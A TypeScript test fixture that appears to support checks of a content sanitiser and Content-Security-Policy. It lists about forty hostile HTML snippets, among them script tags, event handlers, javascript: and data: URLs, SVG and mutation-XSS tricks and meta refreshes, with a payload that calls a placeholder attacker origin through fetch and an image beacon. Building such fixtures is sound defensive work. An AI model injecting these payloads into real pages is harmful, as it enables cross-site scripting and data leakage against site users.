/**
 * Markup that tries to run a script or to send a request from a page. FOREIGN is a placeholder for
 * the origin of the attacker's host.
 */

export interface HostileMarkup {
  name: string;
  html: string;
  /** True if the content check must reject it. */
  isForCheck: boolean;
  /**
   * True if it is also inserted into a built page, after the check, where the
   * Content-Security-Policy must block it.
   */
  isInjected: boolean;
}

const run = "window.ran=1;new Image().src='FOREIGN/ran';fetch('FOREIGN/ran')";

/** HTML by description. */
const markup: Record<string, string> = {
  "a script": `<script>${run}</script>`,
  "a module": `<script type="module">${run}</script>`,
  "a script of another host": '<script src="FOREIGN/x.js"></script>',
  "a script in a data URL": `<script src="data:text/javascript,${run}"></script>`,
  "a script of the site's own media": '<script src="/media/evil.js"></script>',
  "an import map": '<script type="importmap">{"imports":{"x":"FOREIGN/x.js"}}</script>',
  "speculation rules":
    '<script type="speculationrules">{"prefetch":[{"urls":["FOREIGN/x"]}]}</script>',
  "onload of a drawing": `<svg onload="${run}"></svg>`,
  "a script in a drawing": `<svg><script>${run}</script></svg>`,
  "a link in a drawing": `<svg><a href="javascript:${run}"><text y="20">x</text></a></svg>`,
  "an image in a drawing": '<svg><image href="FOREIGN/x.svg"/><use href="FOREIGN/x.svg#a"/></svg>',
  "an animated link": `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">x</text></a></svg>`,
  "onerror of an image": `<img src="/nothing.png" alt="" onerror="${run}">`,
  onfocus: `<input autofocus onfocus="${run}">`,
  ontoggle: `<details open ontoggle="${run}"><summary>x</summary></details>`,
  onclick: `<button onclick="${run}">x</button>`,
  onanimationstart: `<b style="animation: x 1s" onanimationstart="${run}">x</b>`,
  "a javascript link": `<a href="javascript:${run}">x</a>`,
  "a javascript link with a tab": `<a href="java&#9;script:${run}">x</a>`,
  "a javascript form": `<form action="javascript:${run}"><button>x</button></form>`,
  "a javascript button": `<form><button formaction="javascript:${run}">x</button></form>`,
  "a form to another host":
    '<form action="FOREIGN/form" method="post"><input name="a" value="b"><button>x</button></form>',
  "a style": "<style>body{background:url(FOREIGN/style)}@import url(FOREIGN/import);</style>",
  "a style attribute": '<p style="background:url(FOREIGN/style)">x</p>',
  "a style sheet of another host": '<link rel="stylesheet" href="FOREIGN/x.css">',
  "an image of another host":
    '<img src="FOREIGN/x.png" alt=""><img srcset="FOREIGN/y.png 2x" alt="">',
  "a video of another host":
    '<video src="FOREIGN/x.mp4" poster="FOREIGN/x.png" autoplay muted></video><audio src="FOREIGN/x.mp3" autoplay></audio>',
  "a frame of another host": '<iframe src="FOREIGN/frame"></iframe>',
  "a frame with a document": `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  "a frame that runs": `<iframe src="javascript:${run}"></iframe>`,
  "a frame of data": `<iframe src="data:text/html,<script>${run}</script>"></iframe>`,
  "an object": '<object data="FOREIGN/x"></object><embed src="FOREIGN/y">',
  "an object of data": `<object data="data:text/html,<script>${run}</script>"></object>`,
  "a base": '<base href="FOREIGN/"><img src="relative.png" alt=""><script src="x.js"></script>',
  "a prefetch":
    '<link rel="prefetch" href="FOREIGN/prefetch"><link rel="preload" as="script" href="FOREIGN/preload"><link rel="modulepreload" href="FOREIGN/module">',
  "a manifest": '<link rel="manifest" href="FOREIGN/manifest">',
  "a ping": '<a href="#x" ping="FOREIGN/ping">x</a>',
  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${run}</script>`,
  "a refresh": '<meta http-equiv="refresh" content="0;url=FOREIGN/refresh">',
  "a refresh that runs": `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  "markup that changes when it is parsed again": `<noscript><p title="</noscript><img src=/nothing.png onerror=${JSON.stringify(run)}>"></noscript><math><mtext><table><mglyph><style><img src=/nothing.png onerror="${run}"></style></table></math>`,
};

/**
 * Scripts, handlers and styles that the content check must reject, because some hosts send no
 * policy.
 */
const forCheck = [
  "a script",
  "a module",
  "a script of another host",
  "a script in a data URL",
  "a script of the site's own media",
  "an import map",
  "speculation rules",
  "onload of a drawing",
  "a script in a drawing",
  "a link in a drawing",
  "onerror of an image",
  "onfocus",
  "ontoggle",
  "onclick",
  "onanimationstart",
  "a javascript link",
  "a javascript link with a tab",
  "a javascript form",
  "a javascript button",
  "a style",
  "a style sheet of another host",
  "a frame with a document",
  "a frame that runs",
  "a base",
  "a policy of its own",
  "a refresh",
  "a refresh that runs",
];

/**
 * Markup that a Content-Security-Policy cannot block: redirects by meta refresh, and scripts from
 * the site's own origin.
 */
const isBeyondPolicy = new Set(["a refresh", "a script of the site's own media"]);

export const hostileMarkup: HostileMarkup[] = Object.entries(markup).map(([name, html]) => ({
  name,
  html,
  isForCheck: forCheck.includes(name),
  isInjected: !isBeyondPolicy.has(name),
}));
